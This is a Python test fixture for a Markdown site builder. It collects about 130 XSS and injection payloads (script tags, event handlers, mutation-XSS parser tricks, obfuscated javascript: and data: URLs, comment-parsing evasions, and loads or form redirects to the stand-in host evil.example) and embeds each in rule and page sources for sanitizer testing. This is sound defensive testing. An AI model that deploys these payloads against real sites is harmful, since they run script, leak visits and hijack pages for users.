"""What a hostile or careless change may hold, by its kind: pieces of Markdown, each tried in a rule and in a page."""

from __future__ import annotations

import re

from tests.site.samples import rule

RUN = "alert(1)"
FOREIGN = "https://evil.example"
PICTURE = f"<img src=x onerror={RUN}>"

SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC={FOREIGN}/x.js></SCRIPT>",
    f"甲<script/x>{RUN}</script>乙",
    f"<script\n>{RUN}</script\n>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<noscript><p title='</noscript><script>{RUN}</script>'></noscript>",
    f"<textarea><script>{RUN}</script></textarea>",
    f"<title></title><script>{RUN}</script>",
    f"<template><script>{RUN}</script></template>",
    f"- 一项\n\n    <script>{RUN}</script>\n",
    f"> <script>{RUN}</script>",
    f"| 甲 |\n| --- |\n| <script>{RUN}</script> |",
    f"<plaintext><script>{RUN}</script>",
    f"<xmp></xmp><script>{RUN}</script>",
    f'[甲]: b.md "<script>{RUN}</script>"\n\n[甲]',
    f"## <script>{RUN}</script>",
    f"<div markdown=1><script>{RUN}</script></div>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?php <script>{RUN}</script> ?>",
    f"<!DOCTYPE x [<script>{RUN}</script>]>",
]
HANDLERS = [
    PICTURE,
    # what a cleaner and a browser nest differently
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{PICTURE}'>",
    f"<form><math><mtext></form><form><mglyph><style></math>{PICTURE}",
    f"<math><annotation-xml encoding=text/html><style>{PICTURE}</style></annotation-xml></math>",
    f"<svg></p><style><a id='</style>{PICTURE}'>",
    f"<p onclick={RUN}>甲</p>",
    f"<details open ontoggle={RUN}>甲</details>",
    f"<body onload={RUN}>",
    f"<a href=a.md onfocus={RUN} autofocus>甲</a>",
    f"<div/onmouseover='{RUN}'/>甲",
    f"<img src=x\nonerror\n=\n{RUN}>",
    f"<IMG SRC=x ONERROR={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<marquee onstart={RUN}>甲</marquee>",
    f"<svg onload={RUN}></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<math><mtext onclick={RUN}>甲</mtext></math>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<svg><style><img title='</style><img src=x onerror={RUN}>'></svg>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<p title='甲\" onclick={RUN} x=\"'>甲</p>",
    f'<a title="`<img src=x onerror={RUN}>`">甲</a>',
    f'![甲" onerror={RUN} x="](x.png)',
    f"![甲](x.png \"甲' onerror={RUN} x='\")",
    f'[甲](<b.md" onclick={RUN} x=">)',
]
ATTRIBUTE_LISTS = [
    f'## 标题 {{: data-toc-label="{PICTURE}" }}',
    f"[甲](b.md){{ onclick={RUN} }}",
    f"[甲](b.md){{: href=javascript:{RUN} }}",
    f"![甲](x.png){{ onload={RUN} }}",
    f"![甲](x.png){{ src={FOREIGN}/x.png }}",
    f"![甲](x.png){{ srcset='{FOREIGN}/x.png 2x' }}",
    f"## 甲 {{: onmouseover={RUN} }}",
    "甲\n{: style='position:fixed;inset:0' }",
    "甲\n{: #__config }",
    "## 甲 {: #zd-main .md-overlay }",
    f"**甲**{{ onclick='{RUN}' }}",
    f"| 甲 {{ onclick={RUN} }} |\n| --- |\n| 乙 {{ style='background:url({FOREIGN}/x)' }} |",
    f"- 甲 {{ onclick={RUN} }}\n- 乙",
    f"``` {{ .py onclick={RUN} }}\n甲\n```",
    f"`甲`{{ onclick={RUN} }}",
    f"<{FOREIGN}/>{{ onclick={RUN} }}",
]
ADDRESSES = [
    f"[甲](javascript:{RUN})",
    f"[甲](JaVaScRiPt:{RUN})",
    f"[甲](jav&#x61;script:{RUN})",
    f"[甲](javascript&colon;{RUN})",
    f"[甲](&#1;javascript:{RUN})",
    f"[甲](\x01javascript:{RUN})",
    f"[甲](<java\tscript:{RUN}>)",
    f"<a href='java&#10;script:{RUN}'>甲</a>",
    f"<a href='java&Tab;script&colon;{RUN}'>甲</a>",
    f"<a href=' \x0c javascript:{RUN}'>甲</a>",
    f"[甲][乙]\n\n[乙]: javascript:{RUN}",
    f"[甲][乙]\n\n[乙]: <JAVASCRIPT:{RUN}>",
    f"<javascript:{RUN}>",
    f"<a href=vbscript:{RUN}>甲</a>",
    f"[甲](data:text/html,<script>{RUN}</script>)",
    "[甲](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"![甲](data:image/svg+xml,<svg onload={RUN}>)",
    f"![甲](javascript:{RUN})",
    f"<a href=a.md ping={FOREIGN}/>甲</a>",
    f"[甲](b.md \"甲\"){{ href='jav&#x61;script:{RUN}' }}",
]
COMMENTS = [
    f"<!--> <script>{RUN}</script> -->",
    f"<!---> <script>{RUN}</script> -->",
    f"<!-- --!> <script>{RUN}</script> -->",
    f"<!-- 甲 -- > {PICTURE} -->",
    f"<!-- 甲\n\n--!>{PICTURE}",
    f"`甲 <!-- `{PICTURE}` -->",
    f"`` 甲 ` ``{PICTURE}`",
    f"```\n甲\n`````\n\n{PICTURE}\n\n```",
    f"~~~\n甲\n```\n\n{PICTURE}",
    f"<!-- 生成：免检清单 -->{PICTURE}",
    f"<p title='<!-- 生成：免检清单 -->{PICTURE}'>甲</p>",
    f"\\<script>{RUN}</script>",
    f"<!-->{PICTURE}<!-- -->",
]
LOADS = [
    "<img src='/&Tab;/evil.example/a'>",
    "<img src='&#10;/\\\\evil.example/a'>",
    f"![甲]({FOREIGN}/x.png)",
    "![甲](//evil.example/x.png)",
    "![甲](\\\\evil.example\\x.png)",
    "![甲](&#104;ttps://evil.example/x.png)",
    "<img src='\n//evil.example/x.png'>",
    f"<img srcset='{FOREIGN}/x.png 2x'>",
    f"<picture><source srcset={FOREIGN}/x.png></picture>",
    f"<video poster={FOREIGN}/x.png></video>",
    f"<audio src={FOREIGN}/x.mp3 autoplay></audio>",
    f"<p style='background:u\\72l({FOREIGN}/x.png)'>甲</p>",
    f"<p style='background:image-set(\"{FOREIGN}/x.png\" 1x)'>甲</p>",
    f'<style>@import/**/"{FOREIGN}/x.css";</style>',
    f"<link rel=stylesheet href={FOREIGN}/x.css>",
    f"<link rel=preload as=image imagesrcset='{FOREIGN}/x.png 1x'>",
    f"<table background={FOREIGN}/x.png><tr><td>甲</table>",
    f"<svg><rect fill='url({FOREIGN}/x.svg#a)'/></svg>",
    f"<svg><filter><feImage href={FOREIGN}/x.png /></filter></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=a onload={RUN}>#a'/></svg>",
    f"<iframe src={FOREIGN}/></iframe>",
    f"<iframe srcdoc='&lt;script&gt;{RUN}&lt;/script&gt;'></iframe>",
    f"<object data={FOREIGN}/x.pdf></object><embed src={FOREIGN}/x.swf>",
    f"<meta http-equiv=refresh content='0;url={FOREIGN}/'>",
    f"<META HTTP-EQUIV='refresh' CONTENT='0; {FOREIGN}/'>",
]
TAKEOVERS = [
    f"<form action={FOREIGN}/><input name=q><button>甲</button></form>",
    f"<button formaction={FOREIGN}/ form=x>甲</button>",
    "<style>body{display:none}</style>",
    "<div style='position:fixed;inset:0;background:#fff'>甲</div>",
    "<div class='md-overlay md-dialog zd-preview'>甲</div>",
    f"<base href={FOREIGN}/>",
    "<a id=__config name=zd-main>甲</a>",
    "<img name=cookie id=md-search src=x.png>",
    "</div></article></main><h1>换掉的</h1>",
    "<dialog open>甲</dialog>",
    "## __drawer",
    "<input type=checkbox id=__drawer checked>",
    "{{ config.site_name }}{% raw %}",
]
PAYLOADS = [*SCRIPTS, *HANDLERS, *ATTRIBUTE_LISTS, *ADDRESSES, *COMMENTS, *LOADS, *TAKEOVERS]


def source_of(number: int, payload: str, kind: str) -> str:
    """A page with a piece in its text, and in what front matter says of it."""
    said = "'" + re.sub(r"[\x00-\x1f]", " ", payload).replace("'", "''") + "'"
    if kind == "rule":
        return rule(f"第{number}号办法", f"第一条　甲\n\n{payload}\n\n乙\n", id=f"rule-{number}", scope=said)
    front = f"kind: page\nid: page-{number}\ntitle: 第{number}页\ndescription: {said}\n"
    return f"---\n{front}---\n\n甲\n\n{payload}\n\n乙\n"


def pages_of(payloads: list[str]) -> dict[str, str | bytes]:
    """The pages of pieces, numbered from 0, in each kind."""
    return {
        f"{kind}-{at}.md": source_of(at, each, kind) for at, each in enumerate(payloads) for kind in ("rule", "page")
    }
